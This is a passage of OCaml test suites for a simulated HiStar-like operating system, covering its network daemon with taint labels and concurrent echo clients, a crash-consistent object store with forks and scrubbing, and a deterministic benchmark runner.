        let netd =
          Netd.start k ~hub ~container:root ~ip:(Addr.ip_of_string "10.0.0.1")
            ~mac:"aa" ~taint:i ()
        in
        let scratch =
          Sys.container_create ~container:root
            ~label:(l [ (i, Level.L2) ] Level.L1)
            ~quota:262_144L "browser scratch"
        in
        let _browser =
          Sys.thread_create ~container:root
            ~label:(l [ (i, Level.L2) ] Level.L1)
            ~clearance:(l [ (i, Level.L2) ] Level.L2)
            ~quota:65536L ~name:"browser"
            (fun () ->
              let sock =
                Netd.Client.connect netd ~return_container:scratch
                  (Addr.v "10.0.0.2" 80)
              in
              Netd.Client.send netd ~return_container:scratch sock "GET /";
              let buf = Buffer.create 64 in
              let rec go () =
                match Netd.Client.recv netd ~return_container:scratch sock with
                | Some d ->
                    Buffer.add_string buf d;
                    go ()
                | None -> ()
              in
              go ();
              got := Buffer.contents buf)
        in
        ())
  in
  Kernel.run k;
  Alcotest.(check string) "browser downloaded" "<html>hi</html>" !got

(* Satellite: one netd multiplexing many concurrent clients. Each
   client thread gate-calls the same netd, opens its own socket to an
   echo server, pushes a distinct multi-segment payload and reads the
   echo back. Per-socket stream integrity means nobody sees a byte of
   anyone else's stream, in any interleaving of the borrowed gate
   threads and the shared worker. *)
let test_netd_many_clients () =
  let n = 8 in
  let k = Kernel.create () in
  let clock = Kernel.clock k in
  let hub = Hub.create ~clock () in
  let root = Kernel.root k in
  let server = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
  Sim_host.echo server ~port:7;
  let netd =
    Netd.start k ~hub ~container:root ~ip:(Addr.ip_of_string "10.0.0.1")
      ~mac:"aa" ()
  in
  let results = Array.make n "" in
  let payload i =
    (* distinct per-client pattern, long enough to span segments *)
    String.init 5_000 (fun j -> Char.chr (((i * 131) + (j * 7)) land 0xff))
  in
  for i = 0 to n - 1 do
    ignore
      (Kernel.spawn k
         ~name:(Printf.sprintf "client-%d" i)
         (fun () ->
           let sock =
             Netd.Client.connect netd ~return_container:root
               (Addr.v "10.0.0.2" 7)
           in
           let want = payload i in
           Netd.Client.send netd ~return_container:root sock want;
           let buf = Buffer.create (String.length want) in
           let rec go () =
             if Buffer.length buf < String.length want then
               match Netd.Client.recv netd ~return_container:root sock with
               | Some d ->
                   Buffer.add_string buf d;
                   go ()
               | None -> ()
           in
           go ();
           Netd.Client.close netd ~return_container:root sock;
           results.(i) <- Buffer.contents buf))
  done;
  Kernel.run k;
  for i = 0 to n - 1 do
    Alcotest.(check bool)
      (Printf.sprintf "client %d echo intact" i)
      true
      (String.equal (payload i) results.(i))
  done

let () =
  Alcotest.run "histar_net"
    [
      ( "packets",
        [
          Alcotest.test_case "addr" `Quick test_addr_roundtrip;
          Alcotest.test_case "frame round-trip" `Quick test_packet_roundtrip;
          Alcotest.test_case "garbage" `Quick test_packet_garbage;
          QCheck_alcotest.to_alcotest prop_frame_roundtrip;
          QCheck_alcotest.to_alcotest prop_garbage_never_crashes;
        ] );
      ( "tcp",
        [
          Alcotest.test_case "connect+echo" `Quick test_tcp_connect_and_echo;
          Alcotest.test_case "large transfer" `Quick test_tcp_large_transfer;
          Alcotest.test_case "rst on closed port" `Quick
            test_tcp_rst_on_closed_port;
          Alcotest.test_case "loss recovery" `Quick test_tcp_loss_recovery;
          Alcotest.test_case "stream exact under faulty hub" `Quick
            test_tcp_stream_exact_under_faulty_hub;
          Alcotest.test_case "udp" `Quick test_udp;
          Alcotest.test_case "bandwidth model" `Quick test_hub_bandwidth_model;
          Alcotest.test_case "byte conservation" `Quick test_byte_conservation;
        ] );
      ( "netd",
        [
          Alcotest.test_case "end to end" `Quick test_netd_end_to_end;
          Alcotest.test_case "vpn taint blocked" `Quick
            test_netd_taint_blocks_vpn_data;
          Alcotest.test_case "tainted browser works" `Quick
            test_netd_tainted_client_can_browse;
          Alcotest.test_case "many concurrent clients" `Quick
            test_netd_many_clients;
        ] );
    ]
