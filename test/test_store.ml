module Disk = Histar_disk.Disk
module Clock = Histar_util.Sim_clock
open Histar_store

let geometry = { Disk.sectors = 500_000; sector_bytes = 512 }

let mk ?(wal_sectors = 1024) ?(apply_threshold = 1000) () =
  let clock = Clock.create () in
  let disk = Disk.create ~geometry ~clock () in
  let store = Store.format ~disk ~wal_sectors ~apply_threshold () in
  (clock, disk, store)

(* ---------- extent allocator ---------- *)

let test_alloc_basic () =
  let a = Extent_alloc.create () in
  Extent_alloc.add_region a ~start:100 ~sectors:1000;
  Alcotest.(check int) "free" 1000 (Extent_alloc.free_sectors a);
  let s1 = Option.get (Extent_alloc.alloc a ~sectors:10) in
  let s2 = Option.get (Extent_alloc.alloc a ~sectors:10) in
  Alcotest.(check bool) "disjoint" true (abs (s1 - s2) >= 10);
  Alcotest.(check int) "free after" 980 (Extent_alloc.free_sectors a);
  Extent_alloc.check_invariants a

let test_alloc_best_fit () =
  let a = Extent_alloc.create () in
  Extent_alloc.add_region a ~start:0 ~sectors:100;
  Extent_alloc.add_region a ~start:1000 ~sectors:10;
  (* A 10-sector request should take the exact-fit small extent. *)
  let s = Option.get (Extent_alloc.alloc a ~sectors:10) in
  Alcotest.(check int) "best fit" 1000 s;
  Extent_alloc.check_invariants a

let test_alloc_exhaustion () =
  let a = Extent_alloc.create () in
  Extent_alloc.add_region a ~start:0 ~sectors:64;
  Alcotest.(check (option int)) "too big" None (Extent_alloc.alloc a ~sectors:65);
  let _ = Option.get (Extent_alloc.alloc a ~sectors:64) in
  Alcotest.(check (option int)) "empty" None (Extent_alloc.alloc a ~sectors:1)

let test_free_coalesce () =
  let a = Extent_alloc.create () in
  Extent_alloc.add_region a ~start:0 ~sectors:300;
  let s1 = Option.get (Extent_alloc.alloc a ~sectors:100) in
  let s2 = Option.get (Extent_alloc.alloc a ~sectors:100) in
  let s3 = Option.get (Extent_alloc.alloc a ~sectors:100) in
  Extent_alloc.free a ~start:s1 ~sectors:100;
  Extent_alloc.free a ~start:s3 ~sectors:100;
  Extent_alloc.free a ~start:s2 ~sectors:100;
  Extent_alloc.check_invariants a;
  Alcotest.(check int) "fully coalesced" 1 (Extent_alloc.extent_count a);
  Alcotest.(check int) "largest" 300 (Extent_alloc.largest_extent a)

let test_double_free_detected () =
  let a = Extent_alloc.create () in
  Extent_alloc.add_region a ~start:0 ~sectors:100;
  let s = Option.get (Extent_alloc.alloc a ~sectors:10) in
  Extent_alloc.free a ~start:s ~sectors:10;
  (try
     Extent_alloc.free a ~start:s ~sectors:10;
     Alcotest.fail "double free not detected"
   with Failure _ -> ())

let prop_alloc_model =
  QCheck2.Test.make ~name:"allocator conserves space" ~count:200
    QCheck2.Gen.(list_size (int_bound 100) (int_range 1 32))
    (fun sizes ->
      let a = Extent_alloc.create () in
      Extent_alloc.add_region a ~start:0 ~sectors:10_000;
      let allocated =
        List.filter_map
          (fun sectors ->
            Extent_alloc.alloc a ~sectors
            |> Option.map (fun start -> (start, sectors)))
          sizes
      in
      let total_alloc = List.fold_left (fun acc (_, n) -> acc + n) 0 allocated in
      let ok1 = Extent_alloc.free_sectors a = 10_000 - total_alloc in
      List.iter (fun (start, sectors) -> Extent_alloc.free a ~start ~sectors) allocated;
      Extent_alloc.check_invariants a;
      ok1
      && Extent_alloc.free_sectors a = 10_000
      && Extent_alloc.extent_count a = 1)

(* ---------- store ---------- *)

let test_put_get () =
  let _, _, s = mk () in
  Store.put s ~oid:1L "hello";
  Store.put s ~oid:2L "world";
  Alcotest.(check (option string)) "get 1" (Some "hello") (Store.get s ~oid:1L);
  Alcotest.(check (option string)) "get 2" (Some "world") (Store.get s ~oid:2L);
  Alcotest.(check (option string)) "absent" None (Store.get s ~oid:3L);
  Alcotest.(check int) "count" 2 (Store.object_count s)

let test_checkpoint_persists () =
  let clock, disk, s = mk () in
  ignore clock;
  Store.put s ~oid:10L (String.make 5000 'a');
  Store.put s ~oid:11L "small";
  Store.checkpoint s;
  Alcotest.(check int) "nothing dirty" 0 (Store.dirty_count s);
  let s' = Store.recover ~disk in
  Alcotest.(check (option string)) "big object" (Some (String.make 5000 'a'))
    (Store.get s' ~oid:10L);
  Alcotest.(check (option string)) "small object" (Some "small")
    (Store.get s' ~oid:11L);
  Store.check_invariants s'

let test_unsynced_lost_on_crash () =
  let _, disk, s = mk () in
  Store.put s ~oid:1L "durable";
  Store.checkpoint s;
  Store.put s ~oid:2L "lost";
  (* no sync, no checkpoint; simulate power cut by recovering from media *)
  let s' = Store.recover ~disk in
  Alcotest.(check (option string)) "durable survives" (Some "durable")
    (Store.get s' ~oid:1L);
  Alcotest.(check (option string)) "unsynced gone" None (Store.get s' ~oid:2L)

let test_sync_oid_survives () =
  let _, disk, s = mk () in
  Store.put s ~oid:5L "fsynced data";
  Store.sync_oid s ~oid:5L;
  let s' = Store.recover ~disk in
  Alcotest.(check (option string)) "fsynced survives" (Some "fsynced data")
    (Store.get s' ~oid:5L)

let test_sync_delete_survives () =
  let _, disk, s = mk () in
  Store.put s ~oid:5L "data";
  Store.checkpoint s;
  Store.delete s ~oid:5L;
  Store.sync_oid s ~oid:5L;
  let s' = Store.recover ~disk in
  Alcotest.(check (option string)) "synced delete survives" None
    (Store.get s' ~oid:5L)

let test_rewrite_changes_size () =
  let _, disk, s = mk () in
  Store.put s ~oid:7L (String.make 4096 'x');
  Store.checkpoint s;
  let free1 = Store.free_sectors s in
  Store.put s ~oid:7L "tiny";
  Store.checkpoint s;
  let free2 = Store.free_sectors s in
  Alcotest.(check bool) "space reclaimed" true (free2 > free1);
  let s' = Store.recover ~disk in
  Alcotest.(check (option string)) "rewritten" (Some "tiny") (Store.get s' ~oid:7L);
  Store.check_invariants s'

let test_apply_threshold_triggers_checkpoint () =
  let _, _, s = mk ~apply_threshold:10 () in
  for i = 1 to 25 do
    let oid = Int64.of_int i in
    Store.put s ~oid "x";
    Store.sync_oid s ~oid
  done;
  let st = Store.stats s in
  Alcotest.(check bool) "log applied at least twice" true (st.Store.log_applies >= 2)

let test_drop_cache_rereads () =
  let _, _, s = mk () in
  Store.put s ~oid:1L "payload";
  Store.checkpoint s;
  Store.drop_clean_cache s;
  let st = Store.stats s in
  let misses0 = st.Store.cache_misses in
  Alcotest.(check (option string)) "reread from disk" (Some "payload")
    (Store.get s ~oid:1L);
  Alcotest.(check bool) "cache miss happened" true (st.Store.cache_misses > misses0);
  (* second read hits cache *)
  let hits0 = st.Store.cache_hits in
  ignore (Store.get s ~oid:1L);
  Alcotest.(check bool) "then cache hit" true (st.Store.cache_hits > hits0)

let test_group_sync_faster_than_per_file_sync () =
  (* The paper's headline storage result: group sync beats per-file sync
     by orders of magnitude (459s vs 2.57s for 10k files). *)
  let n = 300 in
  let clock1, _, s1 = mk ~wal_sectors:8192 () in
  for i = 1 to n do
    Store.put s1 ~oid:(Int64.of_int i) (String.make 1024 'd');
    Store.sync_oid s1 ~oid:(Int64.of_int i)
  done;
  let per_file_ns = Clock.now_ns clock1 in
  let clock2, _, s2 = mk ~wal_sectors:8192 () in
  for i = 1 to n do
    Store.put s2 ~oid:(Int64.of_int i) (String.make 1024 'd')
  done;
  Store.checkpoint s2;
  let group_ns = Clock.now_ns clock2 in
  Alcotest.(check bool)
    (Printf.sprintf "per-file %Ldns >> group %Ldns" per_file_ns group_ns)
    true
    (per_file_ns > Int64.mul 15L group_ns)

let test_sync_range_in_place () =
  let clock, disk, s = mk () in
  let big = Bytes.make 100_000 'a' in
  Store.put s ~oid:9L (Bytes.to_string big);
  Store.checkpoint s;
  (* modify a small range and flush it in place *)
  Bytes.fill big 50_000 100 'b';
  Store.put s ~oid:9L (Bytes.to_string big);
  let t0 = Clock.now_ns clock in
  let commits0 = (Store.stats s).Store.wal_commits in
  let in_place = Store.sync_range s ~oid:9L ~off:50_000 ~len:100 in
  Alcotest.(check bool) "in-place path taken" true in_place;
  let dt = Int64.sub (Clock.now_ns clock) t0 in
  Alcotest.(check int) "no log commit" commits0 (Store.stats s).Store.wal_commits;
  (* cheap: a couple of sectors plus one barrier, far below a full
     100 KB object sync *)
  Alcotest.(check bool) (Printf.sprintf "%Ldns" dt) true (dt < 30_000_000L);
  (* recovery sees the new bytes *)
  let s' = Store.recover ~disk in
  (match Store.get s' ~oid:9L with
  | Some v ->
      Alcotest.(check char) "patched" 'b' v.[50_050];
      Alcotest.(check char) "rest intact" 'a' v.[0];
      Alcotest.(check int) "length" 100_000 (String.length v)
  | None -> Alcotest.fail "object lost");
  Store.check_invariants s'

let prop_store_model =
  (* Random puts/deletes/syncs/checkpoints followed by recovery must
     agree with a Hashtbl model of everything made durable. *)
  let open QCheck2.Gen in
  let op =
    oneof
      [
        map2 (fun k v -> `Put (Int64.of_int k, v)) (int_bound 20)
          (string_size (int_bound 200));
        map (fun k -> `Delete (Int64.of_int k)) (int_bound 20);
        map (fun k -> `Sync (Int64.of_int k)) (int_bound 20);
        return `Checkpoint;
      ]
  in
  QCheck2.Test.make ~name:"store recovery matches durable model" ~count:60
    (list_size (int_bound 60) op) (fun ops ->
      let _, disk, s = mk ~wal_sectors:4096 () in
      let live = Hashtbl.create 16 in
      let durable = Hashtbl.create 16 in
      List.iter
        (fun op ->
          match op with
          | `Put (oid, v) ->
              Store.put s ~oid v;
              Hashtbl.replace live oid v
          | `Delete oid ->
              Store.delete s ~oid;
              Hashtbl.remove live oid
          | `Sync oid -> (
              Store.sync_oid s ~oid;
              match Hashtbl.find_opt live oid with
              | Some v -> Hashtbl.replace durable oid v
              | None -> Hashtbl.remove durable oid)
          | `Checkpoint ->
              Store.checkpoint s;
              Hashtbl.reset durable;
              Hashtbl.iter (Hashtbl.replace durable) live)
        ops;
      let s' = Store.recover ~disk in
      Hashtbl.fold
        (fun oid v acc -> acc && Store.get s' ~oid = Some v)
        durable true
      && Store.object_count s' = Hashtbl.length durable)

let test_crash_during_auto_apply () =
  (* with a tiny threshold, a sync triggers a full checkpoint; a crash
     there must still recover a consistent prefix *)
  let _, disk, s = mk ~wal_sectors:4096 ~apply_threshold:3 () in
  for i = 1 to 2 do
    Store.put s ~oid:(Int64.of_int i) (Printf.sprintf "v%d" i);
    Store.sync_oid s ~oid:(Int64.of_int i)
  done;
  Disk.set_crash_after_writes disk 4;
  (* the 3rd sync crosses the threshold and checkpoints mid-crash *)
  (match
     Store.put s ~oid:3L "v3";
     Store.sync_oid s ~oid:3L
   with
  | () -> ()
  | exception Disk.Crashed -> ());
  let disk' = if Disk.crashed disk then Disk.reopen_after_crash disk else disk in
  let s' = Store.recover ~disk:disk' in
  Store.check_invariants s';
  (* objects 1 and 2 were durable before the crash; 3 may or may not be *)
  Alcotest.(check (option string)) "obj1" (Some "v1") (Store.get s' ~oid:1L);
  Alcotest.(check (option string)) "obj2" (Some "v2") (Store.get s' ~oid:2L);
  match Store.get s' ~oid:3L with
  | Some "v3" | None -> ()
  | Some other -> Alcotest.fail ("garbage: " ^ other)

let prop_store_crash_during_checkpoint =
  (* A crash in the middle of a checkpoint must recover to the previous
     consistent snapshot (plus any logged records). *)
  QCheck2.Test.make ~name:"crash during checkpoint is atomic" ~count:40
    QCheck2.Gen.(pair (int_range 1 30) (int_range 0 40))
    (fun (nobj, crash_after) ->
      let _, disk, s = mk ~wal_sectors:4096 () in
      for i = 1 to nobj do
        Store.put s ~oid:(Int64.of_int i) (Printf.sprintf "gen1-%d" i)
      done;
      Store.checkpoint s;
      for i = 1 to nobj do
        Store.put s ~oid:(Int64.of_int i) (Printf.sprintf "gen2-%d" i)
      done;
      Disk.set_crash_after_writes disk crash_after;
      let crashed =
        match Store.checkpoint s with
        | () -> false
        | exception Disk.Crashed -> true
      in
      let disk' = if crashed then Disk.reopen_after_crash disk else disk in
      let s' = Store.recover ~disk:disk' in
      (* Every object must read back as gen1 or gen2 consistently with a
         whole-snapshot semantics: either all gen1 or all gen2. *)
      let gens =
        List.init nobj (fun i ->
            match Store.get s' ~oid:(Int64.of_int (i + 1)) with
            | Some v when String.length v >= 4 -> String.sub v 0 4
            | Some _ | None -> "????")
      in
      List.for_all (String.equal "gen1") gens
      || List.for_all (String.equal "gen2") gens)

(* ---------- branchable stores (Store.fork) ---------- *)

let test_fork_isolation () =
  let _, disk, s = mk () in
  Store.put s ~oid:1L "trunk-1";
  Store.put s ~oid:2L "trunk-2";
  Store.checkpoint s;
  let b = Store.fork s in
  (* Diverge both sides. *)
  Store.put b ~oid:1L "branch-1";
  Store.put b ~oid:3L "branch-only";
  Store.delete b ~oid:2L;
  Store.put s ~oid:4L "trunk-only";
  Alcotest.(check (option string)) "trunk keeps 1" (Some "trunk-1")
    (Store.get s ~oid:1L);
  Alcotest.(check (option string)) "trunk keeps 2" (Some "trunk-2")
    (Store.get s ~oid:2L);
  Alcotest.(check (option string)) "trunk blind to 3" None (Store.get s ~oid:3L);
  Alcotest.(check (option string)) "branch sees rewrite" (Some "branch-1")
    (Store.get b ~oid:1L);
  Alcotest.(check (option string)) "branch sees delete" None
    (Store.get b ~oid:2L);
  Alcotest.(check (option string)) "branch blind to 4" None
    (Store.get b ~oid:4L);
  (* Branch durability is its own: a branch checkpoint lands on the
     branch's disk fork, never the trunk media. *)
  Store.checkpoint b;
  let trunk' = Store.recover ~disk in
  Alcotest.(check (option string)) "trunk media untouched" (Some "trunk-1")
    (Store.get trunk' ~oid:1L);
  Alcotest.(check (option string)) "no branch leak" None
    (Store.get trunk' ~oid:3L);
  let branch' = Store.recover ~disk:(Store.disk b) in
  Alcotest.(check (option string)) "branch media has rewrite"
    (Some "branch-1")
    (Store.get branch' ~oid:1L);
  Store.fsck trunk';
  Store.fsck branch'

let test_fork_mutate_drop_fsck () =
  (* Fan out branches, mutate and checkpoint each (checkpoints truncate
     the WAL, so each branch bumps its own epoch), drop half, and fsck
     every survivor — including after recovery from its own media. *)
  let _, _, s = mk ~wal_sectors:4096 ~apply_threshold:8 () in
  for i = 1 to 10 do
    Store.put s ~oid:(Int64.of_int i) (Printf.sprintf "base-%d" i)
  done;
  Store.checkpoint s;
  let nbranches = 8 in
  let branches =
    List.init nbranches (fun b ->
        let br = Store.fork s in
        for i = 1 to 10 do
          if i mod (b + 2) = 0 then Store.delete br ~oid:(Int64.of_int i)
          else
            Store.put br ~oid:(Int64.of_int i)
              (Printf.sprintf "b%d-%d" b i)
        done;
        Store.sync_oid br ~oid:1L;
        Store.checkpoint br;
        (b, br))
  in
  (* Drop the even branches; the survivors and the trunk must be
     unaffected. *)
  let survivors = List.filter (fun (b, _) -> b mod 2 = 1) branches in
  List.iter
    (fun (b, br) ->
      Store.fsck br;
      for i = 1 to 10 do
        let got = Store.get br ~oid:(Int64.of_int i) in
        let want =
          if i mod (b + 2) = 0 then None else Some (Printf.sprintf "b%d-%d" b i)
        in
        Alcotest.(check (option string))
          (Printf.sprintf "branch %d oid %d" b i)
          want got
      done;
      let br' = Store.recover ~disk:(Store.disk br) in
      Store.fsck br')
    survivors;
  Store.fsck s;
  for i = 1 to 10 do
    Alcotest.(check (option string))
      (Printf.sprintf "trunk oid %d" i)
      (Some (Printf.sprintf "base-%d" i))
      (Store.get s ~oid:(Int64.of_int i))
  done

let test_fork_quarantine_branch_local () =
  (* Satellite: scrub's quarantine set and the WAL epoch metadata are
     branch-local. Quarantining sectors on a fork must not poison the
     trunk's allocator or its quarantine list. *)
  let module Faults = Histar_faults.Faults in
  let sched =
    Faults.Schedule.mk ~seed:5L
      ~disk:
        {
          Faults.Schedule.latent_rate = 0.08;
          transient_rate = 0.05;
          corrupt_rate = 0.02;
        }
      ()
  in
  let clock = Clock.create () in
  let disk =
    Disk.create ?faults:(Faults.Disk_faults.create sched) ~clock ()
  in
  let s = Store.format ~disk ~wal_sectors:1024 () in
  let rng = Histar_util.Rng.create 0xBEEFL in
  for oid = 1 to 50 do
    Store.put s ~oid:(Int64.of_int oid) (Histar_util.Rng.bytes rng (64 + Histar_util.Rng.int rng 2048))
  done;
  Store.checkpoint s;
  let free0 = Store.free_sectors s in
  let b = Store.fork s in
  let report = Store.scrub b in
  Alcotest.(check bool) "branch scrub converged" true report.Store.clean;
  Alcotest.(check bool) "branch quarantined sectors" true
    (report.Store.quarantined_sectors > 0);
  Store.fsck b;
  let branch_quarantine = Store.quarantined_extents b in
  (* The trunk never scrubbed: its quarantine list is still empty, its
     allocator untouched. *)
  Alcotest.(check (list (pair int int))) "trunk quarantine empty" []
    (Store.quarantined_extents s);
  Alcotest.(check int) "trunk allocator untouched" free0
    (Store.free_sectors s);
  (* The trunk can still scrub and settle independently. *)
  let treport = Store.scrub s in
  Alcotest.(check bool) "trunk scrub converged" true treport.Store.clean;
  Store.fsck s;
  (* And the trunk's scrub did not bleed back into the branch: its
     quarantine list is exactly what its own scrub computed. *)
  Alcotest.(check (list (pair int int))) "branch quarantine unchanged"
    branch_quarantine
    (Store.quarantined_extents b);
  (* The fault plan is shared apparatus, so the trunk's repair writes
     may have struck fresh latent marks; one more branch scrub settles
     them and the branch must still fsck clean. *)
  Alcotest.(check bool) "branch re-scrub converged" true
    (Store.scrub b).Store.clean;
  Store.fsck b

let () =
  Alcotest.run "histar_store"
    [
      ( "extent_alloc",
        [
          Alcotest.test_case "basic" `Quick test_alloc_basic;
          Alcotest.test_case "best fit" `Quick test_alloc_best_fit;
          Alcotest.test_case "exhaustion" `Quick test_alloc_exhaustion;
          Alcotest.test_case "coalesce" `Quick test_free_coalesce;
          Alcotest.test_case "double free" `Quick test_double_free_detected;
          QCheck_alcotest.to_alcotest prop_alloc_model;
        ] );
      ( "store",
        [
          Alcotest.test_case "put/get" `Quick test_put_get;
          Alcotest.test_case "checkpoint persists" `Quick
            test_checkpoint_persists;
          Alcotest.test_case "unsynced lost" `Quick test_unsynced_lost_on_crash;
          Alcotest.test_case "sync survives" `Quick test_sync_oid_survives;
          Alcotest.test_case "synced delete" `Quick test_sync_delete_survives;
          Alcotest.test_case "rewrite size change" `Quick
            test_rewrite_changes_size;
          Alcotest.test_case "apply threshold" `Quick
            test_apply_threshold_triggers_checkpoint;
          Alcotest.test_case "drop cache" `Quick test_drop_cache_rereads;
          Alcotest.test_case "sync_range in place" `Quick
            test_sync_range_in_place;
          Alcotest.test_case "group sync wins" `Quick
            test_group_sync_faster_than_per_file_sync;
          Alcotest.test_case "crash during auto-apply" `Quick
            test_crash_during_auto_apply;
          QCheck_alcotest.to_alcotest prop_store_model;
          QCheck_alcotest.to_alcotest prop_store_crash_during_checkpoint;
        ] );
      ( "fork",
        [
          Alcotest.test_case "isolation" `Quick test_fork_isolation;
          Alcotest.test_case "fork/mutate/drop/fsck" `Quick
            test_fork_mutate_drop_fsck;
          Alcotest.test_case "quarantine is branch-local" `Quick
            test_fork_quarantine_branch_local;
        ] );
    ]
