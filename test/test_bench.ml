(* Tier-1 coverage for the deterministic benchmark runner: every §7
   workload runs at smoke size, the emitted trajectory is
   schema-valid and bit-identical across runs (modulo wall_ms), and
   disabled instrumentation on the syscall path is near-free. *)

module Runner = Histar_bench.Runner
module Metrics = Histar_metrics.Metrics
module Json = Histar_metrics.Json
module Kernel = Histar_core.Kernel
module Sys_h = Histar_core.Sys

(* Each workload at minimal size, individually, so a trap names the
   workload that caused it. *)
let test_workloads_smoke () =
  List.iter
    (fun (name, _descr, f) ->
      Metrics.set_enabled true;
      Metrics.reset ();
      Fun.protect
        ~finally:(fun () -> Metrics.set_enabled false)
        (fun () ->
          match f Runner.Smoke with
          | ns ->
              if ns < 0L then
                Alcotest.failf "workload %s: negative virtual time" name
          | exception e ->
              Alcotest.failf "workload %s failed: %s" name
                (Printexc.to_string e)))
    Runner.workloads

let test_suite_validates () =
  let json = Runner.run_suite ~size:Runner.Smoke () in
  (match Runner.validate json with
  | Ok () -> ()
  | Error e -> Alcotest.failf "generated trajectory fails schema: %s" e);
  (* the spine counters must be present for every workload, and the
     suite must cover every registered workload *)
  match Json.member "workloads" json with
  | Some (Json.List ws) ->
      Alcotest.(check int)
        "all workloads present"
        (List.length Runner.workload_names)
        (List.length ws);
      List.iter
        (fun w ->
          let counters = Option.get (Json.member "counters" w) in
          List.iter
            (fun k ->
              match Json.member k counters with
              | Some (Json.Int v) when v >= 0 -> ()
              | _ -> Alcotest.failf "missing required counter %s" k)
            Runner.required_counters)
        ws
  | _ -> Alcotest.fail "missing workloads array"

let test_validate_rejects_tampering () =
  let json = Runner.run_suite ~size:Runner.Smoke () in
  let expect_error mutate what =
    match Runner.validate (mutate json) with
    | Error _ -> ()
    | Ok () -> Alcotest.failf "validate accepted %s" what
  in
  let replace k v = function
    | Json.Obj fields ->
        Json.Obj (List.map (fun (k', v') -> if k' = k then (k, v) else (k', v')) fields)
    | j -> j
  in
  expect_error (replace "schema_version" (Json.Int 999)) "bad schema_version";
  expect_error (replace "suite" (Json.Str "other")) "bad suite name";
  expect_error (replace "size" (Json.Str "huge")) "bad size";
  expect_error (replace "workloads" (Json.List [])) "empty workloads";
  (* drop a required counter from the first workload *)
  expect_error
    (fun j ->
      match Json.member "workloads" j with
      | Some (Json.List (w :: rest)) ->
          let w' =
            match w with
            | Json.Obj fields ->
                Json.Obj
                  (List.map
                     (fun (k, v) ->
                       if k = "counters" then
                         match v with
                         | Json.Obj cs ->
                             ( k,
                               Json.Obj
                                 (List.filter
                                    (fun (ck, _) -> ck <> "kernel.syscalls")
                                    cs) )
                         | _ -> (k, v)
                       else (k, v))
                     fields)
            | _ -> w
          in
          replace "workloads" (Json.List (w' :: rest)) j
      | _ -> j)
    "missing required counter"

(* The elision acceptance bar from the gate-IPC workload: repeat gate
   invocations hit their flow summaries, so full lattice comparisons
   stay well below one per syscall and the elided counter is hot. *)
let test_ipc_elision_ratio () =
  let _, _, f =
    List.find (fun (n, _, _) -> n = "ipc-pingpong") Runner.workloads
  in
  Metrics.set_enabled true;
  Metrics.reset ();
  Fun.protect
    ~finally:(fun () -> Metrics.set_enabled false)
    (fun () ->
      ignore (f Runner.Smoke);
      let checks = Metrics.counter_value "label.checks" in
      let elided = Metrics.counter_value "label.elided" in
      let syscalls = Metrics.counter_value "kernel.syscalls" in
      Alcotest.(check bool)
        "elision fired on the gate IPC path" true (elided > 0);
      let ratio = float_of_int checks /. float_of_int syscalls in
      if ratio >= 1.2 then
        Alcotest.failf
          "full label checks per syscall regressed: checks=%d syscalls=%d \
           (%.3f per syscall, elided=%d)"
          checks syscalls ratio elided)

let test_suite_deterministic () =
  let j1 = Runner.run_suite ~size:Runner.Smoke () in
  let j2 = Runner.run_suite ~size:Runner.Smoke () in
  Alcotest.(check string)
    "trajectories identical modulo wall_ms"
    (Json.to_string (Runner.strip_wall j1))
    (Json.to_string (Runner.strip_wall j2))

(* --jobs N fans workloads out on the lib/par pool; the trajectory
   (minus wall_ms) must be byte-identical at every job count. *)
let test_suite_jobs_identical () =
  let run jobs = Runner.run_suite ~jobs ~size:Runner.Smoke () in
  let ref_j = Json.to_string (Runner.strip_wall (run 1)) in
  List.iter
    (fun jobs ->
      Alcotest.(check string)
        (Printf.sprintf "trajectory identical at --jobs %d" jobs)
        ref_j
        (Json.to_string (Runner.strip_wall (run jobs))))
    [ 2; 8 ]

(* Pin the comparison contract itself: wall_ms is present in the raw
   trajectory (it is informational) and completely absent once
   [strip_wall] normalizes it — wall-clock can never leak into a
   baseline diff. *)
let test_wall_ms_excluded () =
  let json = Runner.run_suite ~size:Runner.Smoke () in
  let contains ~needle haystack =
    let n = String.length needle and h = String.length haystack in
    let rec go i =
      i + n <= h && (String.sub haystack i n = needle || go (i + 1))
    in
    n = 0 || go 0
  in
  Alcotest.(check bool)
    "raw trajectory carries wall_ms" true
    (contains ~needle:"wall_ms" (Json.to_string json));
  Alcotest.(check bool)
    "stripped trajectory has no wall_ms" false
    (contains ~needle:"wall_ms" (Json.to_string (Runner.strip_wall json)))

(* ---------- instrumentation overhead ----------

   The acceptance bar: with the metrics registry disabled, the
   flag-gated instrumentation on the syscall dispatch path costs ≤5%
   against a build path with no instrumentation calls at all
   (Kernel.create ~instrument:false). Wall-clock comparison, so:
   min-of-N per side, interleaved, with retries to ride out host
   noise. *)

let syscall_microbench ~instrument n =
  let k = Kernel.create ~instrument () in
  let _tid =
    Kernel.spawn k ~name:"spin" (fun () ->
        for _ = 1 to n do
          Sys_h.yield ()
        done)
  in
  let t0 = Unix.gettimeofday () in
  Kernel.run k;
  Unix.gettimeofday () -. t0

let test_disabled_overhead () =
  Metrics.set_enabled false;
  let n = 30_000 in
  ignore (syscall_microbench ~instrument:false 1_000) (* warm up *);
  let attempt () =
    let t_off = ref infinity and t_on = ref infinity in
    for _ = 1 to 4 do
      t_off := min !t_off (syscall_microbench ~instrument:false n);
      t_on := min !t_on (syscall_microbench ~instrument:true n)
    done;
    (!t_on, !t_off)
  in
  let rec go tries =
    let t_on, t_off = attempt () in
    (* 5% relative plus 2ms absolute slack for timer granularity *)
    if t_on <= (t_off *. 1.05) +. 0.002 then ()
    else if tries > 1 then go (tries - 1)
    else
      Alcotest.failf
        "disabled instrumentation overhead too high: on=%.4fs off=%.4fs (%.1f%%)"
        t_on t_off
        ((t_on /. t_off -. 1.0) *. 100.0)
  in
  go 3

(* With the registry enabled, the instrumented syscall path must
   actually report: syscall count and latency observations. *)
let test_instrumentation_reports () =
  Metrics.set_enabled true;
  Metrics.reset ();
  Fun.protect
    ~finally:(fun () -> Metrics.set_enabled false)
    (fun () ->
      ignore (syscall_microbench ~instrument:true 100);
      let syscalls = Metrics.counter_value "kernel.syscalls" in
      Alcotest.(check bool)
        "kernel.syscalls counted" true (syscalls >= 100);
      match Metrics.find "kernel.syscall_ns" with
      | Some (Metrics.Histogram h) ->
          Alcotest.(check bool)
            "latency histogram populated" true
            (Metrics.Histogram.count h >= 100)
      | _ -> Alcotest.fail "kernel.syscall_ns histogram missing")

let () =
  Alcotest.run "histar_bench"
    [
      (* The wall-clock overhead comparison runs first: the --jobs
